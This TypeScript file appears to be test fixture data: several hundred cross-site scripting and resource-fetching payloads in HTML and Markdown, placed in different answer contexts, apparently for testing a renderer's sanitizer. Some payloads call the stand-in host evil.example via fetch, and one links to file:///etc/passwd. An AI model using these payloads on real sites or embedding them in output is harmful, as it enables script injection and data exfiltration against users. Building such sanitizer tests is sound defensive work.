const EVIL = 'https://evil.example/';
/** Run, each of these would leave a mark. */
const RUN = `(window.pwned=1,fetch('${EVIL}ran'))`;

/** Markup that runs something, or fetches something. */
const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${EVIL}a.png>`,
  `<img srcset="${EVIL}a.png 2x">`,
  `<picture><source srcset=${EVIL}b.png><img></picture>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><image href=${EVIL}c.png /></svg>`,
  `<svg><use href="${EVIL}d.svg#x"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data=${EVIL}e.swf></object>`,
  `<embed src=${EVIL}f.swf>`,
  `<video src=${EVIL}g.mp4 autoplay></video>`,
  `<video poster=${EVIL}h.png></video>`,
  `<audio src=${EVIL}i.mp3 autoplay onerror="${RUN}"></audio>`,
  `<video><source onerror="${RUN}"></video>`,
  `<link rel=stylesheet href=${EVIL}j.css>`,
  `<link rel=prefetch href=${EVIL}k>`,
  `<style>@import '${EVIL}l.css';</style>`,
  `<style>*{background:url(${EVIL}m.png)}</style>`,
  `<div style="background:url(${EVIL}n.png)">x</div>`,
  `<body onload="${RUN}" background=${EVIL}o.png>`,
  `<table background=${EVIL}p.png><tr><td background=${EVIL}q.png>x</table>`,
  `<input autofocus onfocus="${RUN}">`,
  `<input type=image src=${EVIL}r.png>`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form id=parlor><input name=innerHTML></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href=x onclick="${RUN}" onmouseover="${RUN}">x</a>`,
  `<a href="${EVIL}" ping="${EVIL}ping" target=_self>x</a>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}s">`,
  `<base href=${EVIL}>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<x onclick="${RUN}" is=y>x</x>`,
  `"><img src=x onerror="${RUN}">`,
  `' onmouseover='${RUN}`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `<div id=message></div><div class=composer>x</div>`,
];

/** Markdown of its own that fetches or runs. */
const MARKDOWN: readonly string[] = [
  `![x](${EVIL}t.png)`,
  `![x](${EVIL}u.png "title")`,
  `![x][ref]\n\n[ref]: ${EVIL}v.png`,
  `[![x](${EVIL}w.png)](${EVIL})`,
  `![" onerror="${RUN}](x)`,
  `![x](x" onerror="${RUN})`,
  `[x](javascript:${RUN})`,
  `[x](JAVASCRIPT:alert%281%29)`,
  `[x](java&#10;script:alert(1))`,
  `[x](<javascript:${RUN}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:x)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example/y)`,
  `[x](blob:null/1)`,
  `[x][r]\n\n[r]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `[x](https://example.com" onclick="${RUN})`,
  `# <img src=x onerror="${RUN}">`,
  `| <img src=${EVIL}y.png> | b |\n|-|-|\n| ![z](${EVIL}z.png) | d |`,
];

/** Places of an answer that markup may stand in. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Some words ${text} and more.`,
  (text) => `- one\n- ${text}\n- three`,
  (text) => `> ${text}`,
  (text) => `**${text}** and *${text}*`,
];

/** More than three hundred answers that want to run or fetch something. */
export const HOSTILE_ANSWERS: readonly string[] = [
  ...MARKUP.flatMap((text) => PLACES.map((place) => place(text))),
  ...MARKDOWN.flatMap((text) => [text, `- ${text}`]),
];

/** Those that fit into a line, for settings and listings. */
export const HOSTILE_LINES: readonly string[] = MARKUP.filter((text) => !text.includes('\n') && text.length < 150);
